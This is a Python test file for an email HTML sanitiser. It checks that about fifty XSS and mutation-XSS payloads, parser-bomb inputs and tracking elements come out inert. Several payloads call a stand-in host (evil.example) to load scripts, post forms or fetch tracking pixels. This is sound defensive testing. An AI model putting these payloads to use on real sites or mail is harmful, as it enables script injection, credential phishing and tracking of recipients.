"""Strangers' HTML is inert, and stays what it is when it is sanitised or parsed again."""

from __future__ import annotations

import re

import bleach
import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailgate.mail.html import clean
from tests.mail.cost import expect_cpu_within

ACTIVE = set(
    "script iframe frame frameset object embed applet base meta form link style svg math template noscript input button"  # noqa: SIM905
    " textarea select video audio source title xmp".split()
)

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script without space": "<script/src=//evil.example/a.js></script>",
    "NUL in tag": "<scr\0ipt>alert(1)</scr\0ipt>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler after slash": "<img/src=x/onerror=alert(1)//",
    "handler unclosed": "<img src=x onerror=alert(1) ",
    "handler on kept picture": '<img src="cid:kept" onload=alert(1)>',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "svg script": "<svg><script>alert&#40;1&#41;</script></svg>",
    "svg use": '<svg><use href="data:image/svg+xml;base64,AAAA#x"></svg>',
    "math": '<math href="javascript:alert(1)">X</math>',
    "style in math": "<math></p><style><!--</style><img src/onerror=alert(1)>",
    "style in svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "noscript": "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "textarea": "<textarea><!--</textarea><img src=x onerror=alert(1)>-->",
    "title in svg": '<svg></p><title><a id="</title><img src=x onerror=alert(1)>"></title>',
    "template in select": '<select><template><style><!--</style><a rel="--></style></template></select>'
    '<img src onerror=alert(1)>">',
    "form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "xmp": '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "noembed": '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "cdata": "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    "processing instruction": '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    "javascript": '<a href="javascript:alert(1)">x</a>',
    "javascript with tab": '<a href="jav\tascript:alert(1)">x</a>',
    "javascript in entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "javascript after control": '<a href="\x01 JaVaScRiPt:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "relative": "<a href=/login>x</a><base href=https://evil.example/>",
    "iframe": "<iframe src=https://evil.example/></iframe>",
    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data=javascript:alert(1)></object><embed src=//evil.example/x>",
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "form": "<form action=https://evil.example/><input name=pw><button formaction=javascript:alert(1)>go</form>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "clobbering": "<form id=document><input name=cookie></form><a id=location href=https://evil.example>y</a>",
    "style sheet": "<style>@import url(https://evil.example/x.css)</style><link rel=stylesheet href=//evil.example/x>",
    "expression": '<div style="width:expression(alert(1))">x</div>',
    "background": '<div style="background:url(https://evil.example/t.gif)">x</div>',
    "background escaped": '<div style="background-color:\\75rl(https://evil.example/t.gif)">x</div>',
    "image-set": "<div style=\"color:image-set('https://evil.example/t.gif' 1x)\">x</div>",
    "covering": '<div style="position:fixed;top:0;left:0;z-index:9999;margin-top:-500px">fake login</div>',
    "remote picture": '<img src="https://evil.example/p.gif?u=1"><img src=//evil.example/p.gif>',
    "srcset": '<img srcset="https://evil.example/p.gif 1x">',
    "body background": "<body background=https://evil.example/b.gif><table background=https://evil.example/b.gif></table>",
    "video": "<video poster=https://evil.example/p.gif><source src=https://evil.example/v></video>",
    "dangling": "<img src='https://evil.example/?",
    "backtick": '<img alt="`><script>alert(1)</script>" src=cid:kept>',
    "nested anchors": "<a href=https://a.example><table><a href=https://b.example>x",
}


def active(html: str) -> list[str]:
    """What a browser would run or load, after parsing as the content of a div and of a table cell."""
    found: list[str] = []
    for container in ("div", "td"):
        tree = html5lib.parseFragment(html, container=container, namespaceHTMLElements=False)
        for element in tree.iter():
            if not isinstance(element.tag, str):
                found.append("comment")
                continue
            found += [element.tag] if element.tag in ACTIVE or "}" in element.tag else []
            found += [f"{name}={value}" for name, value in element.attrib.items() if acts(str(name), value)]
    return found


def acts(name: str, value: str) -> bool:
    target = re.sub(r"[\0-\x20]", "", value).lower()
    if name == "src":
        return not target.startswith("cid:")
    if name == "href":
        return not target.startswith(("http:", "https:", "mailto:", "tel:"))
    if name == "style":
        return bool(re.search(r"url|expression|position|image|\\|:\s*-\d", value, re.IGNORECASE))
    return name.startswith("on") or name in (
        "srcdoc",
        "srcset",
        "poster",
        "background",
        "action",
        "formaction",
        "id",
        "class",
    )


@pytest.mark.parametrize("name", PAYLOADS)
def test_C11_nothing_runs_and_nothing_loads(name: str) -> None:
    for html in (PAYLOADS[name], f"<p>hi</p>{PAYLOADS[name]}", f"<table><tr><td>{PAYLOADS[name]}"):
        safe = clean.sanitise(html, frozenset({"kept"}))
        assert active(safe) == [], safe
        assert clean.sanitise(safe, frozenset({"kept"})) == safe


@pytest.mark.parametrize("name", PAYLOADS)
def test_C11_bleach_as_the_second_opinion_finds_no_tag_to_take_out(name: str) -> None:
    safe = clean.sanitise(PAYLOADS[name], frozenset({"kept"}))
    again = bleach.clean(
        safe, tags=set(clean.TAGS), attributes=lambda *_: True, protocols={"http", "https", "mailto", "cid"}
    )
    assert again.count("&lt;") == safe.count("&lt;")


def test_C12_the_lists_hold_nothing_that_switches_the_parser() -> None:
    assert not clean.TAGS & ACTIVE
    assert not clean.TAGS & {"noembed", "noframes", "plaintext"}


def test_C13_a_remote_picture_becomes_a_note_and_a_pixel_nothing() -> None:
    html = (
        '<p>a<img src="https://x.example/l.png" alt="Our logo">b<img src="https://x.example/p" width=1 height=1>c</p>'
    )
    assert clean.sanitise(html, frozenset()) == "<p>a[image: Our logo]bc</p>"


def test_a_picture_of_the_mail_stays_in_its_place() -> None:
    html = '<p>see <img src="cid:shot@x" alt="screen"> here</p>'
    assert clean.sanitise(html, frozenset({"shot@x"})) == '<p>see <img src="cid:shot@x" alt="screen"> here</p>'
    assert clean.sanitise(html, frozenset()) == "<p>see [image] here</p>"
    assert clean.sanitise('<img src="cid:shot%40x">', frozenset({"shot@x"})) == '<img src="cid:shot@x">'


def test_links_stay_and_give_nothing_away() -> None:
    safe = clean.sanitise('<a href="https://x.example/?a=1&amp;b=2" target=_blank>x</a>', frozenset())
    assert 'href="https://x.example/?a=1&amp;b=2"' in safe
    assert 'rel="noopener noreferrer nofollow"' in safe
    assert "target" not in safe


def test_colours_and_tables_stay() -> None:
    html = (
        '<table border="1"><tbody><tr><td style="color:#c00;text-align:right" colspan="2">1</td></tr></tbody></table>'
    )
    assert clean.sanitise(html, frozenset()) == html


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 100_000 + "x" + "</div>" * 100_000,
        "<" * 200_000,
        "<a " + " ".join(f"a{n}=1" for n in range(50_000)) + ">x</a>",
        "<table><tr><td>" * 20_000,
        "<b><i><a href=x>" * 2_000 + "<p>" * 2_000,
        "<blockquote type=cite>" * 20_000,
        "<blockquote type=cite>" * 200 + "<p>x</p>" * 20_000,
        "& " * 400_000,
    ],
    ids=["deep", "angles", "attributes", "tables", "formatting", "quotes", "lines in quotes", "entities"],
)
def test_C14_bombs_cost_little_and_become_text(bomb: str) -> None:
    with expect_cpu_within(2.0):
        safe = clean.sanitise(bomb, frozenset())
        clean.html_to_text(bomb)
    assert active(safe[:10_000]) == []


def test_a_megabyte_of_html_takes_less_than_half_a_second() -> None:
    html = (
        "<html><body>"
        + '<p style="color:red">A paragraph of <b>bold</b> and <a href="https://x.example/1">link</a></p>' * 11_000
    )
    with expect_cpu_within(0.5):
        assert "paragraph" in clean.sanitise(html, frozenset())


FRAGMENTS = st.lists(
    st.one_of(
        st.sampled_from(
            [
                *PAYLOADS.values(),
                "<table>",
                "<td>",
                "</p>",
                "<p>",
                "<a href=x>",
                "&nbsp;",
                "\xa0",
                "<pre>\n",
                "&#0;",
                "]]>",
            ]
        ),
        st.text(max_size=20),
    ),
    max_size=8,
).map("".join)


@given(FRAGMENTS)
@settings(max_examples=150, deadline=None)
def test_C16_sanitising_twice_changes_nothing_and_nothing_acts(html: str) -> None:
    safe = clean.sanitise(html, frozenset({"kept"}))
    assert clean.sanitise(safe, frozenset({"kept"})) == safe
    assert active(safe) == []
